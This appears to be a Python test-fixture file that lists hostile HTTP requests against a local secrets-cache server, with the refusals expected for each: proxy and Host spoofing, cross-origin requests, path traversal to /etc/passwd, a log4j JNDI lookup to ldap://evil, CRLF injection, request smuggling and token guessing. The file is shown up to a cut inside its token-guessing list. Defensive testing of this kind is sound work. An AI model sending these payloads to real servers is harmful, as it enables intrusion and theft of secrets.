"""
What hostile callers send, and what they get: one list, in families.

Rules
-----
1. A request aims at a secret wherever it can, so that a check which is passed by shows the secret.
2. What it gets is exact: which answers, in which order, and whether the connection then ends. A request that is
   hidden in another one is never answered: there would be one answer more.

It is one list in one file, and so longer than others.
"""

from collections import Counter
from collections.abc import Iterator, Sequence
from typing import NamedTuple

from tests.support.fakes import CANARY

# Stands wherever a request lets its caller choose, and in no header field and no log line but `test_hostile.WARNINGS`.
MARK = "hostile-7b1e"
SECRET = "/cache/text"
VALUE, PONG, BAD, FORBIDDEN = "200 value", "200", "400 invalid-request", "403 forbidden"
# More than this may not be read at once.
MAX_READ = 60_000
NO_TOKEN, NOT_FOUND, NOT_CONFIGURED = "401 token-required", "404 not-found", "404 secret-not-configured"
NOT_ALLOWED = "405 method-not-allowed"
TOKEN = f"{CANARY}-token"


class Hostile(NamedTuple):
    """
    One thing that is sent.

    Attributes:
        name: What it is, unique in its family.
        pieces: The bytes; each is read before the next is sent.
        answers: Status and code of each answer, in order.
        is_open: Whether the connection is of use afterwards; else the server closes it.
    """

    name: str
    pieces: tuple[bytes, ...]
    answers: tuple[str, ...]
    is_open: bool = True

    @property
    def may_be_cut_off(self) -> bool:
        """Whether its answer may be lost: it is refused, and the connection ended, before all of it was read."""
        return not self.is_open and self.answers[-1] == BAD and sum(map(len, self.pieces)) > MAX_READ


class Family(NamedTuple):
    """
    Requests that try the same.

    Attributes:
        sent: What is sent, in a few words.
        needs_token: Whether the server has a token.
    """

    name: str
    sent: str
    cases: Sequence[Hostile]
    needs_token: bool = False


def request(*lines: str | bytes, target: str = SECRET, method: str = "GET", host: str | None = "localhost") -> bytes:
    """Return a request with further header lines, each as it is given."""
    heads = [f"{method} {target} HTTP/1.1", *([f"Host: {host}"] if host is not None else []), *lines]
    raw = [line.encode("utf-8", "surrogateescape") if isinstance(line, str) else line for line in heads]
    return b"\r\n".join([*raw, b"", b""])


PING = request(target="/ping")
# Another's request, hidden in what a careless reader takes for the body of the one before.
HIDDEN = request()


def words(text: str) -> list[str]:
    """Return what is separated by blanks."""
    return text.split()


def each(answer: str, named: dict[str, bytes], *, is_open: bool = True) -> list[Hostile]:
    """Return requests that all get one and the same answer."""
    return [Hostile(name, (data,), (answer,), is_open) for name, data in named.items()]


def forwarded() -> Iterator[Hostile]:
    """Say in every way that a proxy has passed the request on."""
    values = {"X-Forwarded-For": "127.0.0.1", "Forwarded": "for=127.0.0.1;host=localhost", "Via": "1.1 localhost"}
    for name, value in values.items():
        forms = {
            "": [f"{name}: {value}"],
            "in lower case": [f"{name.lower()}: {value}"],
            "in upper case": [f"{name.upper()}: {value}"],
            "twice": [f"{name}: {value}", f"{name}: {value}"],
            "empty": [f"{name}:"],
            "of blanks": [f"{name}: \t "],
            "without a blank": [f"{name}:{value}"],
            "with a mark": [f"{name}: {MARK}"],
            "after many": [*(f"X-{number}: {MARK}" for number in range(40)), f"{name}: {value}"],
            "beside a harmless other": [f"{name}: {value}", "X-Forwarded-Proto: http"],
            "of this machine itself": [f"{name}: ::1"],
            "of many hops": [f"{name}: {', '.join([value] * 50)}"],
        }
        yield from each(FORBIDDEN, {f"{name} {form}".strip(): request(*lines) for form, lines in forms.items()})
        line = f"{name}: {value}"
        yield from each(
            FORBIDDEN,
            {
                f"{name} of a ping": request(line, target="/ping"),
                f"{name} of the health": request(line, target="/health"),
                f"{name} of nothing": request(line, target="/nowhere"),
                f"{name} of an absolute target": request(line, target=f"http://localhost{SECRET}"),
                f"{name} with a method of its own": request(line, method="BREW"),
            },
        )
        yield Hostile(f"{name} before Host", (request(line, "Host: localhost", host=None),), (FORBIDDEN,))
        yield Hostile(f"{name} in two pieces", (request(line)[:-12], request(line)[-12:]), (FORBIDDEN,))
        folded = {"folded": f"{name}:\r\n {value}", "in a fold": f"X-Other: a\r\n {line}", "nameless": f" {line}"}
        yield from each(BAD, {f"{name} {how}": request(text) for how, text in folded.items()}, is_open=False)


def of_pages() -> Iterator[Hostile]:
    """Ask as a page in a browser does."""
    origins = ["https://evil.example", "http://localhost:3000", "http://localhost", "null", "", MARK, "file://"]
    yield from each(FORBIDDEN, {f"Origin {origin!r}": request(f"Origin: {origin}") for origin in origins})
    sites = ["cross-site", "same-site", "same-origin", "None", "none, none", "", MARK]
    yield from each(FORBIDDEN, {f"Sec-Fetch-Site {site!r}": request(f"Sec-Fetch-Site: {site}") for site in sites})
    image = ["Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"]
    script = ["Sec-Fetch-Site: same-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: script"]
    upgrade = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: eA=="]
    yield from each(
        FORBIDDEN,
        {
            "an image": request(*image, target=f"{SECRET}?refresh=true"),
            "a script": request(*script),
            "a navigation from a page": request("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate"),
            "a preflight": request(
                "Origin: https://evil.example", "Access-Control-Request-Method: GET", method="OPTIONS"
            ),
            "a preflight for the private network": request(
                "Origin: https://evil.example", "Access-Control-Request-Private-Network: true", method="OPTIONS"
            ),
            "a beacon": request("Origin: null", "Content-Length: 0", target="/ping", method="POST"),
            "two sites": request("Sec-Fetch-Site: none", "Sec-Fetch-Site: cross-site"),
            "Origin in lower case": request("origin: https://evil.example"),
            "a web socket": request("Origin: https://evil.example", *upgrade),
            "a rebound name": request("Sec-Fetch-Site: same-origin", host="evil.example:8080"),
        },
    )
    yield Hostile("Origin of a HEAD", (request("Origin: https://evil.example", method="HEAD"),), ("403",))
    form = request("Origin: null", f"Content-Length: {len(HIDDEN)}", method="POST") + HIDDEN
    yield Hostile("a form with a request in it", (form,), (FORBIDDEN,), is_open=False)


def hosts() -> Iterator[Hostile]:
    """Name another machine, or this one in a way that only a name server knows."""
    names = words("""
        evil.example localhost.evil.example evil.localhost localhost.localdomain 127.0.0.1.evil.example
        127.0.0.1.nip.io localhost:80@evil.example localhost@evil.example user@localhost user:x@localhost:80
        [::1].evil.example [::1]evil [::1 ::1 [::1]: [::] [::ffff:127.0.0.1] [0:0:0:0:0:0:0:1] [::1%25lo] [::1%lo]
        localhost. localhost.:8080 127.0.0.1. 127.1 127.0.1 127.0.0.2 127.0.0.01 0127.0.0.1 127.000.000.001 0.0.0.0
        0 2130706433 0x7f000001 0x7f.0.0.1 017700000001 169.254.169.254 localhost: localhost:+80 localhost:-1
        localhost:80: localhost:80x localhost:0x50 localhost:80,evil.example localhost,evil.example localhost;evil
        localhost/ localhost/evil localhost#evil localhost?evil localhost\\evil http://localhost //localhost
        localhost%00 localhost%2eevil %6cocalhost locaLhost.evil ip6-localhost kubernetes.docker.internal *
        host.docker.internal
    """)
    others = [
        "localhost evil.example",
        "localhost:80 80",
        "localhost:\uff18\uff10",
        "\uff4cocalhost",
        "loc\u0430lhost",
        f"{MARK}.evil",
    ]
    yield from each(FORBIDDEN, {host: request(host=host) for host in [*names, *others]})
    yield from each(FORBIDDEN, {"empty": request(host=""), "of blanks": request(host=" \t")})
    yield from each(
        FORBIDDEN,
        {
            f"{host} of {target}": request(host=host, target=target)
            for host in ("evil.example", "0.0.0.0")
            for target in ("/ping", "/health", "/x")
        },
    )
    yield from each(BAD, {"none": request(host=None)}, is_open=False)
    yield from each(
        BAD,
        {
            "two": request("Host: evil.example"),
            "two, the good one last": request("Host: localhost", host="evil.example"),
            "twice the same": request("Host: localhost"),
            "two, one in upper case": request("HOST: evil.example"),
        },
        is_open=False,
    )


def absolute_targets() -> Iterator[Hostile]:
    """Name another machine in the target."""
    authorities = words("""
        evil.example localhost.evil.example localhost:80@evil.example user@localhost user:x@localhost
        evil.example:80 127.1 0.0.0.0 2130706433 [::ffff:127.0.0.1] localhost. localhost: %6cocalhost localhost%00
    """)
    yield from each(FORBIDDEN, {name: request(target=f"http://{name}{SECRET}") for name in authorities})
    schemes = ("https", "HTTP", "ftp", "file", "gopher", "x")
    yield from each(FORBIDDEN, {f"{s} elsewhere": request(target=f"{s}://evil.example{SECRET}") for s in schemes})
    yield from each(
        FORBIDDEN,
        {
            "a good target, a foreign Host": request(target=f"http://localhost{SECRET}", host="evil.example"),
            "a host in the query": request(target=f"http://evil.example?http://localhost{SECRET}"),
            "a host in the path": request(target=f"http://evil.example/http://localhost{SECRET}"),
        },
    )
    broken = ["http://localhost:x", "http://localhost\\evil", "http://", "http:/localhost", "://localhost"]
    yield from each(BAD, {start: request(target=f"{start}{SECRET}") for start in broken}, is_open=False)


def other_targets() -> Iterator[Hostile]:
    """Name no path: the authority form, the asterisk, and what is no target."""
    tunnels = ["localhost:80", "evil.example:443", "localhost", "*"]
    yield from each(
        NOT_ALLOWED, {f"CONNECT {to}": request(target=to, method="CONNECT") + HIDDEN for to in tunnels}, is_open=False
    )
    yield from each(NOT_ALLOWED, {"OPTIONS *": request(target="*", method="OPTIONS")})
    wrong = ["*", "localhost:80", "localhost", "cache/text", "?", "..", "\\cache\\text"]
    yield from each(BAD, {target: request(target=target) for target in wrong}, is_open=False)


def paths() -> Iterator[Hostile]:
    """Walk out of a name, or into one."""
    yield from each(
        NOT_CONFIGURED,
        {
            path: request(target=path)
            for path in words("""
                /cache/../cache/text /cache/x/../text /cache/./text /cache//text /cache/text/ /cache/text/.
                /cache/text/.. /cache/text%00 /cache/text%00.json /cache/%00text /cache/%2e%2e/text
                /cache/%2E%2E%2Ftext /cache/..%2ftext /cache/..%5ctext /cache/..\\text /cache/\\text /cache/text%5c
                /cache/%2ftext /cache/text%2f /cache/text;x /cache/text;jsessionid=1 /cache/text%20 /cache/%20text
                /cache/TEXT /cache/text%0a /cache/text%0d%0a /cache/text%09 /cache/%EF%BC%8E%EF%BC%8E/text
                /cache/t%C4%93xt /cache/%2574ext /cache/ /cache/* /cache/%2a /cache/te%78t%3f /cache/text%23
                /cache/text%3Fkey=a /cache/../../../../etc/passwd /cache/file:///etc/passwd
                /cache/${jndi:ldap://evil} /cache/{{7*7}} /cache/'or'1'='1 /cache/<script> /cache/%1b[31mtext
            """)
        },
    )
    yield from each(
        NOT_FOUND,
        {
            path: request(target=path)
            for path in words("""
                / // //cache/text ///cache/text /.//cache/text /./cache/text /x/../cache/text /cache /%63ache/text
                /cache%2ftext /cache%2Ftext /Cache/text /CACHE/text /cache;x/text /\\cache/text /%2e/cache/text
                /ping/ /ping/../cache/text /ping%2f..%2fcache/text /ping;/cache/text /ping%00 /health/ /health%00
                //localhost/cache/text //evil.example/cache/text /favicon.ico /robots.txt /.env /metrics
            """)
        },
    )
    yield from each(
        BAD,
        {
            path: request(target=path)
            for path in words("""
                /cache/%c0%ae%c0%ae/text /cache/%c0%af /cache/%e0%80%af /cache/%f0%80%80%af /cache/%ed%a0%80
                /cache/%ff /cache/%fe%ff /cache/%u002e%u002e/text /cache/% /cache/%2 /cache/%zz /cache/text%
                /cache/%f5%80%80%80 /cache/%80
            """)
        },
    )


def queries() -> Iterator[Hostile]:
    """Ask for more than there is to be asked."""
    yield from each(
        BAD,
        {
            query: request(target=f"{SECRET}?{query}")
            for query in words(f"""
                key=a&key=b key=&key=a %6bey=a&key=b key[]=a Key=a KEY=a key;x=a debug=true x callback=evil
                refresh=yes refresh=true&refresh=true version_id=a%0d%0aX:1 version_id=%00 version_id=%c3%a9
                version_stage= version_stage=a%20b version_id={"v" * 257} key=/~ key=/~2 key=%ff key=% =a &&a=b
                {MARK}={MARK} key=a%0d%0aSet-Cookie:x=1 key=__proto__ key={"k" * 3000}
            """)
        },
    )
    keys = ["%0d%0aX-Injected:1", "__proto__", "constructor", "/0", "/", MARK, "*", "%00", "password%00", "k" * 3000]
    yield from each("404 key-not-found", {key[:30]: request(target=f"/cache/json?key={key}") for key in keys})


def sizes() -> Iterator[Hostile]:
    """Send more than anybody means."""
    yield from each(
        BAD,
        {
            "a target of 9 KB": request(target=f"{SECRET}?key={'x' * 9000}"),
            "a target of 100 KB": request(target=f"/cache/{'x' * 100_000}"),
            "a header of 100 KB": request(f"X-Long: {'x' * 100_000}"),
            "a header name of 100 KB": request(f"{'x' * 100_000}: 1"),
            "a Host of 10 KB": request(host="x" * 10_000),
            "a method of 10 KB": request(method="X" * 10_000),
            "200 header lines": request(*(f"X-{number}: {MARK}" for number in range(200))),
            "5000 header lines": request(*("X: y" for _ in range(5000))),
            "a token of 10 KB": request(f"X-Aws-Parameters-Secrets-Token: {'x' * 10_000}"),
            "4 MB without a line's end": b"x" * 4_000_000,
            "100 KB of blanks": b" " * 100_000,
        },
        is_open=False,
    )
    yield from each(
        VALUE,
        {
            "100 header lines": request(*(f"X-{number}: {MARK}" for number in range(100))),
            "8 KB of entity tags": request(f"If-None-Match: {', '.join(['W/' + chr(34) + 'x' + chr(34)] * 1000)}"),
            "a token of 8 KB where there is none": request(f"X-Aws-Parameters-Secrets-Token: {'x' * 8000}"),
        },
    )


def framing() -> Iterator[Hostile]:
    """Hide a request in a body that two readers would measure in two ways."""
    length = len(HIDDEN)
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (length, HIDDEN)
    wrong = {
        "CL and TE": [f"Content-Length: {length}", "Transfer-Encoding: chunked"],
        "TE and CL": ["Transfer-Encoding: chunked", f"Content-Length: {length}"],
        "CL 0 and TE": ["Content-Length: 0", "Transfer-Encoding: chunked"],
        "CL and TE in other letters": ["content-length: 4", "TRANSFER-ENCODING: CHUNKED"],
        "TE xchunked": ["Transfer-Encoding: xchunked"],
        "TE chunked, identity": ["Transfer-Encoding: chunked, identity"],
        "TE identity": ["Transfer-Encoding: identity"],
        "TE chunked twice in a list": ["Transfer-Encoding: chunked, chunked"],
        "TE twice": ["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"],
        "TE twice, one unknown": ["Transfer-Encoding: chunked", "Transfer-Encoding: cow"],
        "TE quoted": ['Transfer-Encoding: "chunked"'],
        "TE with a parameter": ["Transfer-Encoding: chunked;x=1"],
        "TE empty": ["Transfer-Encoding:"],
        "TE with a blank before the colon": ["Transfer-Encoding : chunked"],
        "TE with a tab before the colon": ["Transfer-Encoding\t: chunked"],
        "TE folded": ["Transfer-Encoding:\r\n chunked"],
        "TE after a vertical tab": ["Transfer-Encoding: \x0bchunked"],
        "TE with NUL": ["Transfer-Encoding: chunked\x00"],
        "CL twice, different": ["Content-Length: 0", f"Content-Length: {length}"],
        "CL twice, the same": [f"Content-Length: {length}", f"Content-Length: {length}"],
        "CL a list": [f"Content-Length: {length}, {length}"],
        "CL a list, different": [f"Content-Length: 0, {length}"],
        "CL negative": ["Content-Length: -1"],
        "CL with a plus": [f"Content-Length: +{length}"],
        "CL hexadecimal": [f"Content-Length: {length:#x}"],
        "CL octal": ["Content-Length: 0o17"],
        "CL with an underscore": ["Content-Length: 1_0"],
        "CL a fraction": ["Content-Length: 1.0"],
        "CL with an exponent": ["Content-Length: 1e1"],
        "CL empty": ["Content-Length:"],
        "CL a word": ["Content-Length: all"],
        "CL with a blank in it": ["Content-Length: 1 0"],
        "CL in other digits": ["Content-Length: \uff11\uff10"],
        "CL beyond 64 bits": [f"Content-Length: {'9' * 30}"],
        "CL with a blank before the colon": [f"Content-Length : {length}"],
        "CL folded": [f"Content-Length:\r\n {length}"],
        "CL quoted": ['Content-Length: "10"'],
    }
    for name, lines in wrong.items():
        for method in ("GET", "POST"):
            yield Hostile(
                f"{name}, {method}", (request(*lines, method=method) + chunk + HIDDEN,), (BAD,), is_open=False
            )


def chunks() -> Iterator[Hostile]:
    """Write a chunked body that two readers would take apart in two ways."""
    head = request("Transfer-Encoding: chunked", method="POST", target="/ping")
    wrong = {
        "a size that is negative": b"-1\r\n",
        "a size with a plus": b"+3\r\nabc\r\n0\r\n\r\n",
        "a size with 0x": b"0x3\r\nabc\r\n0\r\n\r\n",
        "a size with an underscore": b"1_0\r\nabc\r\n0\r\n\r\n",
        "a size that is no number": b"zz\r\nabc\r\n0\r\n\r\n",
        "a size beyond 64 bits": b"f" * 30 + b"\r\nabc\r\n0\r\n\r\n",
        "an empty size": b"\r\nabc\r\n0\r\n\r\n",
        "a blank before the size": b" 3\r\nabc\r\n0\r\n\r\n",
        "a bare LF after the size": b"3\nabc\r\n0\r\n\r\n",
        "a bare LF after an extension": b"3;x=1\nabc\r\n0\r\n\r\n",
        "a bare CR after the size": b"3\rabc\r\n0\r\n\r\n",
        "no line's end after the chunk": b"3\r\nabc0\r\n\r\n",
        "a bare LF after the chunk": b"3\r\nabc\n0\r\n\r\n",
        "a chunk longer than it says": b"3\r\nabcdef\r\n0\r\n\r\n",
        "an extension with a bare CR": b"3;a=b\rc\r\nabc\r\n0\r\n\r\n",
        "an extension with NUL": b"3;a=\x00\r\nabc\r\n0\r\n\r\n",
        "a trailer that is no header": b"0\r\nno colon\r\n\r\n",
        "a trailer with a blank before the colon": b"0\r\nX : y\r\n\r\n",
    }
    for name, body in wrong.items():
        yield Hostile(name, (head + body + HIDDEN,), (BAD,), is_open=False)
        yield Hostile(f"{name}, after its head", (head, body + HIDDEN), (NOT_ALLOWED,), is_open=False)
    good = {
        "an extension": b"3;a=b\r\nabc\r\n0\r\n\r\n",
        "an extension of 100 KB": b"3;" + b"x" * 100_000 + b"\r\nabc\r\n0\r\n\r\n",
        "a trailer": b"0\r\nX-Forwarded-For: x\r\n\r\n",
        "a size with zeros": b"0003\r\nabc\r\n000\r\n\r\n",
    }
    yield from each(NOT_ALLOWED, {name: head + body + HIDDEN for name, body in good.items()}, is_open=False)


def bodies() -> Iterator[Hostile]:
    """Give a request a body, with another request in it."""
    length, chunked = len(HIDDEN), b"%x\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
    sized = f"Content-Length: {length}"

    def ping(*lines: str) -> bytes:
        return request(*lines, target="/ping")

    with_body = {
        "a length": ping(sized) + HIDDEN,
        "chunks": ping("Transfer-Encoding: chunked") + chunked,
        "chunks in another coding": ping("Transfer-Encoding: gzip, chunked") + chunked,
        "a length with zeros before it": ping(f"Content-Length: 000{length}") + HIDDEN,
        "a length that is too short": ping("Content-Length: 1") + HIDDEN,
        "a form": ping(sized, "Content-Type: multipart/form-data") + HIDDEN,
        "a packed body": ping(sized, "Content-Encoding: gzip") + HIDDEN,
        "a body that waits for 100": ping(sized, "Expect: 100-continue") + HIDDEN,
        "1 MB": ping("Content-Length: 1000000") + b"x" * 1_000_000,
    }
    yield from each(PONG, {f"GET with {name}": data + HIDDEN for name, data in with_body.items()}, is_open=False)
    yield Hostile("HEAD with a body", (request(sized, method="HEAD") + HIDDEN * 2,), ("200",), is_open=False)
    yield Hostile("GET, then its body", (ping(sized), HIDDEN, HIDDEN), (PONG,), is_open=False)
    yield Hostile("GET, in the middle of its body", (ping(sized) + HIDDEN[:9], HIDDEN[9:]), (PONG,), is_open=False)
    others = ("POST", "PUT", "DELETE", "OPTIONS", "BREW")
    yield from each(
        NOT_ALLOWED,
        {f"{method} with a body": request(sized, method=method) + HIDDEN * 2 for method in others},
        is_open=False,
    )
    yield from each(FORBIDDEN, {"forwarded": request("Via: x", sized, method="POST") + HIDDEN * 2}, is_open=False)
    yield from each(
        PONG, {"a length of 0": ping("Content-Length: 0"), "an expectation": ping("Expect: the-unexpected")}
    )


def headers() -> Iterator[Hostile]:
    """Write header lines that two readers would take apart in two ways."""
    lines: dict[str, list[str | bytes]] = {
        "a blank before the colon": ["X-Other : x"],
        "a tab before the colon": ["X-Other\t: x"],
        "a fold": ["X-Other: a\r\n b"],
        "a fold by a tab": ["X-Other: a\r\n\tb"],
        "a fold that is a header": ["X-Other: a\r\n Host: evil.example"],
        "a fold first of all": [" X-Other: a"],
        "NUL in a value": ["X-Other: a\x00b"],
        "NUL in a name": ["X\x00: a"],
        "a bare CR in a value": ["X-Other: a\rb"],
        "a bare CR and a header": ["X-Other: a\rVia: b"],
        "a bare CR before the line's end": ["X-Other: a\r"],
        "an escape character": ["X-Other: a\x1b[31m"],
        "DEL": ["X-Other: a\x7f"],
        "no colon": ["X-Other"],
        "no name": [": x"],
        "a name of blanks": ["X Other: x"],
        "a name in brackets": ["X(Other): x"],
        "a name with a slash": ["X/Other: x"],
        "a name in quotes": ['"X-Other": x'],
        "a name that is not ASCII": ["X-\u00d6ther: x"],
        "a name with an at sign": ["@X: x"],
        "a second request line": ["GET /cache/text HTTP/1.1"],
    }
    yield from each(BAD, {name: request(*more) + HIDDEN for name, more in lines.items()}, is_open=False)
    good: dict[str, list[str | bytes]] = {
        "a value that is not ASCII": ["X-Other: \u00e9"],
        "a value that is no UTF-8": [b"X-Other: \xff\xfe"],
        "a value that is empty": ["X-Other:"],
        "a value of colons": ["X-Other: ::::"],
        "a name of odd letters": ["!#$%&'*+-.^_`|~: x"],
        "hop by hop": ["Connection: close-not, X-Other", "Keep-Alive: timeout=9999999999"],
        "a proxy's words": ["Proxy-Connection: keep-alive", "Proxy-Authorization: Basic eDp4", "Max-Forwards: 0"],
        "another method": ["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: PATCH"],
        "another target": ["X-Original-URL: /health", "X-Rewrite-URL: /health"],
        "a range": ["Range: bytes=0-3", 'If-Range: "version-1"'],
        "ranges": [f"Range: bytes={','.join(['0-'] * 1000)}"],
        "conditions": ['If-Match: "x"', "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"],
        "another encoding": ["Accept-Encoding: gzip;q=0, *;q=0", "Accept: application/xml", "TE: trailers"],
        "a cookie": [f"Cookie: {MARK}=1", "Authorization: Bearer x"],
        "a log4j look-up": ["User-Agent: ${jndi:ldap://evil.example/x}", f"Referer: {MARK}"],
    }
    yield from each(VALUE, {name: request(*more) for name, more in good.items()})
    yield from each(
        VALUE,
        {
            "an upgrade to HTTP/2": request(
                "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"
            )
        },
    )


def lines() -> Iterator[Hostile]:
    """End lines in other ways, and begin with other things than a request line."""
    ends = {
        "bare LF": request().replace(b"\r\n", b"\n"),
        "bare CR": request().replace(b"\r\n", b"\r"),
        "bare LF after the request line": request().replace(b"1.1\r\n", b"1.1\n"),
        "bare LF after the headers": request()[:-2] + b"\n",
        "bare LF between headers": request("X-Other: a\nVia: b"),
        "two CR": request().replace(b"\r\n", b"\r\r\n"),
        "LF CR": request().replace(b"\r\n", b"\n\r"),
    }
    first = {
        "HTTP/0.9": b"GET /cache/text\r\n\r\n",
        "HTTP/0.9 with a Host": b"GET /cache/text\r\nHost: localhost\r\n\r\n",
        "a method of HTTP/2": request(method="PRI"),
        "no target": b"GET HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "no method": b"/cache/text HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "an empty target": b"GET  HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "tabs": b"GET\t/cache/text\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
        "a blank in the target": request(target="/cache/te xt"),
        "a blank at the end": b"GET /cache/text HTTP/1.1 \r\nHost: localhost\r\n\r\n",
        "a blank first": b" " + request(),
        "a NUL in the target": request(target="/cache/te\x00xt"),
        "a NUL in the method": request(method="GE\x00T"),
        "a CR in the target": request(target="/cache/te\rxt"),
        "an LF in the target": request(target="/cache/text\nX: y"),
        "HTTP/2.0": request().replace(b"1.1", b"2.0"),
        "HTTP/1.10": request().replace(b"1.1", b"1.10"),
        "HTTP/1.": request().replace(b"1.1", b"1."),
        "HTTP/01.1": request().replace(b"1.1", b"01.1"),
        "HTTP/-1.1": request().replace(b"1.1", b"-1.1"),
        "HTTP/11": request().replace(b"1.1", b"11"),
        "http/1.1": request().replace(b"HTTP", b"http"),
        "HTTPS/1.1": request().replace(b"HTTP", b"HTTPS"),
        "ICY/1.1": request().replace(b"HTTP", b"ICY"),
        "RTSP/2.0": request().replace(b"HTTP/1.1", b"RTSP/2.0"),
        "a method in brackets": request(method="G(E)T"),
        "a method that is not ASCII": request(method="G\u00cbT"),
        "a reply": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
        "a ClientHello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)) * 2,
        "a ClientHello of SSL 2": b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + bytes(40),
        "a PROXY line": b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + request(),
        "the PROXY signature": b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x00" + request(),
        "SMTP": b"EHLO localhost\r\nMAIL FROM:<a@evil.example>\r\n\r\n",
        "SSH": b"SSH-2.0-OpenSSH_9.0\r\n",
        "Redis": b"*1\r\n$4\r\nPING\r\n",
        "NUL": bytes(100),
        "random bytes": bytes((number * 167 + 13) % 256 for number in range(4096)),
        "ESC": b"\x1b[31m\r\n\r\n",
    }
    yield from each(BAD, {**ends, **first}, is_open=False)
    yield Hostile("HTTP/1.0", (request().replace(b"1.1", b"1.0"),), (VALUE,), is_open=False)
    yield Hostile("HTTP/1.0 without a Host", (request(host=None).replace(b"1.1", b"1.0"),), (FORBIDDEN,), is_open=False)
    yield Hostile("RTSP/1.1", (request().replace(b"HTTP/1.1", b"RTSP/1.1"),), (VALUE,))
    yield Hostile("an empty line before", (b"\r\n" + request(),), (VALUE,))
    yield Hostile("two blanks", (request(target=f" {SECRET}"),), (VALUE,))


def methods() -> Iterator[Hostile]:
    """Do something else than read."""
    names = words("""
        POST PUT DELETE PATCH OPTIONS TRACE TRACK DEBUG PROPFIND MKCOL COPY MOVE LOCK SEARCH PURGE LINK BREW get Get
        gEt head GETS GE HEADX * ! QUERY M-SEARCH SOURCE
    """)
    yield from each(NOT_ALLOWED, {name: request(method=name) for name in names})
    yield from each(NOT_ALLOWED, {"an absolute target": request(method="POST", target=f"http://localhost{SECRET}")})
    yield from each(
        NOT_ALLOWED, {"a web socket by POST": request("Connection: Upgrade", "Upgrade: websocket", method="POST")}
    )


def pipelines() -> Iterator[Hostile]:
    """Send several requests at once, one of them hostile: the others are answered as if they had come alone."""
    kept = {
        "forwarded": (request("Via: x"), FORBIDDEN),
        "elsewhere": (request(host="evil.example"), FORBIDDEN),
        "of a page": (request("Origin: null"), FORBIDDEN),
        "a broken escape": (request(target="/cache/%zz"), BAD),
        "another method": (request(method="BREW"), NOT_ALLOWED),
        "a path": (request(target="/cache/../cache/text"), NOT_CONFIGURED),
    }
    for count in (2, 3, 5, 10, 20):
        for name, (data, answer) in kept.items():
            at = count // 2
            sent = [PING] * at + [data] + [PING] * (count - at - 1)
            answers = [PONG] * at + [answer] + [PONG] * (count - at - 1)
            yield Hostile(f"{count}, one {name}", (b"".join(sent),), tuple(answers))
            yield Hostile(f"{count}, one {name}, one by one", tuple(sent), tuple(answers))
    ends = {
        "two lengths": request("Content-Length: 1", "Content-Length: 2"),
        "CL and TE": request("Content-Length: 4", "Transfer-Encoding: chunked") + b"0\r\n\r\n",
        "NUL": request("X: \x00"),
    }
    for count in (2, 3, 5, 10, 20):
        for name, data in ends.items():
            at = count // 2
            sent = [*[PING] * at, data + HIDDEN * (count - at - 1)]
            yield Hostile(f"{count}, one with {name}, one by one", tuple(sent), (*([PONG] * at), BAD), is_open=False)
            yield Hostile(f"{count}, one with {name}", (b"".join(sent),), (BAD,), is_open=False)
        at = count // 2
        body = request(f"Content-Length: {len(HIDDEN)}", target="/ping") + HIDDEN * (count - at)
        yield Hostile(f"{count}, one with a body", (PING * at + body,), (PONG,) * (at + 1), is_open=False)
    last = request("Connection: close", target="/ping")
    yield Hostile("after the last one", (last, HIDDEN), (PONG,), is_open=False)
    yield Hostile("with the last one", (last + HIDDEN,), (BAD,), is_open=False)
    yield Hostile("with the last one, of HTTP/1.0", (PING.replace(b"1.1", b"1.0") + HIDDEN,), (BAD,), is_open=False)
    upgrade = request("Connection: Upgrade", "Upgrade: websocket", target="/ping")
    yield Hostile("after an upgrade", (upgrade + PING,), (PONG, PONG))
    # Two parsers, one for methods of one's own: what is half read by the one is never read by the other.
    own = request(method="BREW")
    hidden = request()[:-2] + b"\r\n" + own
    yield Hostile("in a header, at the begin of a piece", (b"GET /ping HTTP/1.1\r\nX: ", hidden), (BAD,), is_open=False)
    yield Hostile(
        "in a target, at the begin of a piece",
        (b"GET /ping?", b"x HTTP/1.1\r\nX: y\r\n\r\n" + own),
        (BAD,),
        is_open=False,
    )
    yield Hostile("a method in pieces", (b"GE", request(method="TS")), (NOT_ALLOWED,))
    yield Hostile("a method letter by letter", tuple(bytes([letter]) for letter in own), (NOT_ALLOWED,))
    yield Hostile(
        "methods of one's own, one by one", (PING, own, PING, own[:2], own[2:], PING), (PONG, NOT_ALLOWED) * 2 + (PONG,)
    )
    yield Hostile("2000", (PING * 2000,), (PONG,) * 2000)


def tokens() -> Iterator[Hostile]:
    """Guess the token."""
    header = "X-Aws-Parameters-Secrets-Token"
    guesses: dict[str, list[str | bytes]] = {
        "none": [],
        "empty": [f"{header}:"],
        "all but its end": [f"{header}: {TOKEN[:-1]}"],
        "all but its beginning": [f"{header}: {TOKEN[1:]}"],
        "one letter more": [f"{header}: {TOKEN}x"],
        "in upper case": [f"{header}: {TOKEN.upper()}"],
        "one letter wrong": [f"{header}: {TOKEN[:-1]}x"],
        "in quotes": [f'{header}: "{TOKEN}"'],
        "percent-encoded": [f"{header}: %43{TOKEN[1:]}"],
        "in a list": [f"{header}: {TOKEN}, x"],
        "twice, once right": [f"{header}: x", f"{header}: {TOKEN}"],
        "twice right": [f"{header}: {TOKEN}", f"{header}: {TOKEN}"],
